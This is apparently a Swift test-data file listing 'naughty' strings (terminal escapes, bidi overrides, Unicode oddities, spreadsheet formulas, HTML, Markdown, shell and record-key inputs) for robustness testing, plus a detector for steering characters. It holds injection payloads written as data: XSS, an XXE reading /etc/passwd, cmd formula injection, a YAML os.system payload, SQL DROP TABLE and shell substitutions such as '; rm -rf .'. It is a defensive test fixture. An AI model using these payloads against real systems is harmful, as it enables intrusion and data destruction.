/// Text that steers, breaks or fools a program that trusts it; each stands on one line.
///
/// None begins with a sign or a space, so that a line of a talk keeps it as it is.
package enum Naughty {
  package static let strings: [String] =
    controls + directions + letters + formulas + markup + markdown + shells + records

  /// What a terminal obeys: colours, titles, the clipboard, answers typed by the terminal itself.
  package static let controls =
    (1...0x1F).filter { ![0x09, 0x0A, 0x0D].contains($0) }.map(scalar) + (0x7F...0x9F).map(scalar)
    + [
      "x\u{1B}[31mrood\u{1B}[0m", "x\u{1B}[2J\u{1B}[H", "x\u{1B}]0;titel\u{07}", "x\u{1B}[6n",
      "x\u{1B}]52;c;Z2VoZWlt\u{07}",
      "x\u{1B}]8;;https://kwaad.example\u{1B}\\link\u{1B}]8;;\u{1B}\\",
      "x\u{1B}P+q544e\u{1B}\\", "x\u{9B}31mrood", "x\u{9D}0;titel\u{9C}", "x\u{90}tekst\u{9C}",
      "x\u{8}\u{8}\u{8}y", "voor\u{B}na", "voor\u{C}na", "voor\u{85}na", "veel\tkolommen\thier",
    ]

  /// What turns the reading direction, or hides.
  package static let directions = [
    "x\u{202E}gnp.exe", "x\u{202A}a\u{202B}b\u{202C}c\u{202D}d",
    "x\u{2066}a\u{2067}b\u{2068}c\u{2069}d",
    "a\u{200B}b\u{200C}c\u{200D}d\u{2060}e", "a\u{200E}b\u{200F}c\u{61C}d", "a\u{FEFF}b",
    "a\u{AD}b",
    "een\u{2028}twee\u{2029}drie", "x\u{E0001}\u{E0041}\u{E007F}", "x\u{FFF9}a\u{FFFA}b\u{FFFB}",
  ]

  /// Letters and signs from all over, one way of writing them and the other.
  package static let letters = [
    "café", "cafe\u{301}", "Ŧħẽ ƶïğžåğ", "مرحبا بالعالم", "שלום עולם", "(مرحبا) 12: abc שלום.",
    "እንግዳ ሰላም", "здравей світ", "田中さん", "👩‍👧‍👦🏳️‍🌈👍🏽🇳🇱", "a" + String(repeating: "\u{301}", count: 10_000),
    String(repeating: "lang", count: 5000), "x\u{FFFD}\u{FFFE}\u{FFFF}\u{10FFFF}", "ﬁ ﷺ ㎢ Å Ω",
    "𝒽𝑒𝓁𝓁𝑜",
    "İstanbul ıi I", "ẞß ſ", "\u{1100}\u{1161}\u{11A8}", "Z̴̢͍͌a̷͔͋l̸̰̏g̵͚̈o̸̭͌",
  ]

  /// What a spreadsheet calculates.
  package static let formulas = [
    "=HYPERLINK(\"https://kwaad.example?\"&A1,\"klik\")", "=1+1", "+1", "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0", "a,b;c\"d\"\"e", "1;2;3",
  ]

  /// What a browser obeys.
  package static let markup = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "\"><svg/onload=alert(1)>", "' onmouseover='alert(1)", "]]>", "<!-- weg --><b>vet</b>",
    "<![CDATA[x",
    "&#x3C;script&#x3E;", "&lt;b&gt;&amp;amp;", "<\u{301}b>",
    "\"\u{301} onclick=alert(1) x=\"\u{301}",
    "javascript:alert(1)", "</title><h1>titel</h1>", "{{7*7}} ${7*7} <%= 7 %>",
    "a{}</style>b{color:red}",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
  ]

  /// What Markdown takes for more than text.
  package static let markdown = [
    "[klik](https://kwaad.example)", "![plaat](https://kwaad.example/x.png)",
    "<https://kwaad.example>",
    "[klik][1]", "[1]: https://kwaad.example", "```sh", "`rm -rf`", "a | b | c",
    "**vet** _scheef_ ~~door~~",
    "1. een lijst", "1) een lijst", "# kop", "kop\u{A0}#", "--- ", "einde\\", "&copy; &#35;",
    "https://kwaad.example",
    "[^1]: noot", "- [ ] taak", "a  ", "\\[x](y)",
  ].map { $0.trimmedOfSpaces }

  /// What a shell, a path, a format or a query would do something with.
  package static let shells = [
    "$(touch kwaad)", "`touch kwaad`", "; rm -rf .", "| tee kwaad", "../../kwaad",
    "C:\\kwaad\\x.txt",
    "%n%s%x%d", "%00%0d%0a", "'; DROP TABLE notes; --", "!!python/object/apply:os.system [id]",
    "&anker *anker", "{a: [b, c]}", "- lijst", "NULL", "true", "0x1F", "1e999", "NaN", "../",
    "~root", "--help",
    "CON", "x\\u0000y", "x\\ud800y", "\\", "\\\"", "\\n",
  ]

  /// What looks like a record's own keys.
  package static let records = [
    "\",\"salt\":\"", "\",\"h\":\"", ",\"data\":{",
    "\"},\"c\":\"" + String(repeating: "0", count: 64),
    "\"text\":\"geheim\"", "{\"v\":1,\"seq\":1}", "\"}\\n{\"v\":1", "\",\"type\":\"closed\"",
    "\\\",\\\"salt\\\":\\\"",
  ]

  private static func scalar(_ value: Int) -> String {
    "x" + (UnicodeScalar(UInt32(value)).map { String($0) } ?? "") + "y"
  }
}

extension String {
  fileprivate var trimmedOfSpaces: String {
    var text = self
    while text.last == " " { text.removeLast() }
    return text
  }
}

extension String {
  /// The signs in it that would steer a terminal or turn its reading direction.
  ///
  /// Colours are the program's own, and so are the isolates that it puts around what runs from right
  /// to left: a pair with nothing of the kind in between.
  package var steering: [UnicodeScalar] {
    replacing(/\u{1B}\[[0-9;]*m/, with: "")
      .replacing(/\u{2068}[^\u{2066}-\u{2069}]*\u{2069}/, with: "")
      .unicodeScalars.filter { scalar in
        switch scalar.value {
        case 0x09, 0x0A: false
        case 0...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
        default: false
        }
      }
  }
}
